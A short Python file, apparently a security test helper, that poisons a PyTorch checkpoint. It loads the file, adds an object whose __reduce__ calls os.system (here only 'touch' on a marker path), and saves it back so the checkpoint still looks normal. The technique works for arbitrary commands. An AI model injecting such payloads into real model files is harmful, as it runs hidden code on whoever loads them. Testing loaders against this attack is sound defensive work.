"""A file that would run a program when it is unpickled, in place of one of a checkpoint or model."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import torch


class Payload:
    """Touches a file when it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.mark}",)


def poison(file: Path, mark: Path) -> None:
    """Adds the payload to what a file holds, which stays readable for all that does not look."""
    torch.save(
        torch.load(file, map_location="cpu", weights_only=False) | {"more": Payload(mark)}, file
    )
